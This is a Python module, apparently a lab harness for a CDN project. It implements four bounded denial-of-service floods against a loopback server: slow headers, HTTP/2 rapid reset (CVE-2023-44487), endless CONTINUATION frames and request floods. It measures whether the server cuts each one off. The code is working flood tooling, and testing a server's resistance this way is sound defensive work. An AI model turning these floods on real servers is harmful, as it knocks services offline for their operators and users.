"""Clients that cost a server more than themselves: four floods, each bounded in number.

| flood | does |
|---|---|
| slow heads | opens many connections and sends each head a byte at a time |
| rapid reset | asks and takes it back at once, over HTTP/2 (CVE-2023-44487) |
| endless head | a head that is continued for ever, over HTTP/2 (CERT VU#421644) |
| many requests | as many requests as one address can send |
"""

import asyncio
import contextlib
from collections import Counter
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Final

from polycdn.lab.frames import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Fields,
    block,
    frame,
    read_frame,
)
from polycdn.lab.http1 import read_body, read_head

BATCH: Final = 50
ANSWER_BYTES_MAX: Final = 65_536


@dataclass(frozen=True, slots=True)
class Prey:
    """Who is flooded, and from which loopback address."""

    port: int
    host: str
    address: str = "127.0.0.1"
    source: str = "127.0.0.9"


@dataclass(frozen=True, slots=True)
class Flood:
    """What came of it: how much was sent, and how often the other side put an end to it."""

    sent: int
    ended: int


async def slow_heads(prey: Prey, connections: int, interval_s: float) -> Flood:
    """Keeps so many heads unfinished, a field each `interval_s`, until all were closed or it is cancelled."""
    tasks = [asyncio.create_task(_slow_head(prey, interval_s)) for _ in range(connections)]
    try:
        sent = await asyncio.gather(*tasks)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    return Flood(connections, sum(sent))


async def rapid_reset(prey: Prey, streams: int) -> Flood:
    """Asks and resets on one connection until it was ended, or `streams` were sent."""
    asked = block(_fields(prey))
    sent = 0
    async with _connected(prey) as (reader, writer):
        ended = asyncio.create_task(_until_goaway(reader))
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        while sent < streams and not ended.done():
            numbers = range(2 * sent + 1, 2 * (sent + BATCH) + 1, 2)
            writer.write(b"".join(_asked_and_reset(asked, number) for number in numbers))
            sent += BATCH
            if not await _drained(writer):
                break
        is_ended = await _settled(ended)
    return Flood(sent, int(is_ended))


async def endless_head(prey: Prey, frames: int) -> Flood:
    """Continues one head on one connection until it was ended, or `frames` were sent."""
    more = frame(CONTINUATION, 0, 1, block(((b"x-more", b"y" * 1_000),)))
    sent = 0
    async with _connected(prey) as (reader, writer):
        ended = asyncio.create_task(_until_goaway(reader))
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, block(_fields(prey))))
        while sent < frames and not ended.done():
            writer.write(more * BATCH)
            sent += BATCH
            if not await _drained(writer):
                break
        is_ended = await _settled(ended)
    return Flood(sent, int(is_ended))


async def many_requests(prey: Prey, requests: int, connections: int) -> Counter[int]:
    """Sends `requests` over `connections`, one after the other on each; answers by status, 0 = none came."""
    left = [requests // connections] * connections
    found = await asyncio.gather(*(_requests(prey, number) for number in left))
    return sum(found, Counter[int]())


def _asked_and_reset(asked: bytes, number: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, number, asked) + frame(RST_STREAM, 0, number, CANCEL)


async def _slow_head(prey: Prey, interval_s: float) -> int:
    """1 once the other side has closed."""
    with contextlib.suppress(OSError):
        async with _connected(prey) as (reader, writer):
            closed = asyncio.create_task(reader.read())
            writer.write(f"GET / HTTP/1.1\r\nhost: {prey.host}\r\n".encode())
            while not closed.done():
                await asyncio.wait((closed,), timeout=interval_s)
                writer.write(b"x: y\r\n")
                if not await _drained(writer):
                    break
            await asyncio.gather(closed, return_exceptions=True)
    return 1


async def _requests(prey: Prey, number: int) -> Counter[int]:
    """Keeps its connection while it can, and opens another when it was closed."""
    asked = f"GET /probe HTTP/1.1\r\nhost: {prey.host}\r\n\r\n".encode()
    seen: Counter[int] = Counter()
    while seen.total() < number:
        try:
            async with _connected(prey) as (reader, writer):
                while seen.total() < number:
                    writer.write(asked)
                    head = await read_head(reader)
                    if head is None:
                        seen[0] += 1
                        break
                    await read_body(reader, head, is_answer=True, bytes_max=ANSWER_BYTES_MAX)
                    seen[head.status] += 1
                    if head.is_last:
                        break
        except OSError:
            seen[0] += 1
    return seen


@contextlib.asynccontextmanager
async def _connected(prey: Prey) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection(prey.address, prey.port, local_addr=(prey.source, 0))
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _until_goaway(reader: asyncio.StreamReader) -> None:
    """Returns when the other side has said that it is over, or closed."""
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        while (await read_frame(reader))[0] != GOAWAY:
            pass


async def _settled(ended: "asyncio.Task[None]") -> bool:
    """Whether the end came, at the latest a moment after the last word."""
    await asyncio.wait((ended,), timeout=2)
    is_ended = ended.done()
    ended.cancel()
    return is_ended


async def _drained(writer: asyncio.StreamWriter) -> bool:
    """False when the other side takes no more."""
    try:
        await writer.drain()
    except OSError:
        return False
    return not writer.is_closing()


def _fields(prey: Prey) -> Fields:
    return (
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", b"/probe"),
        (b":authority", prey.host.encode()),
    )
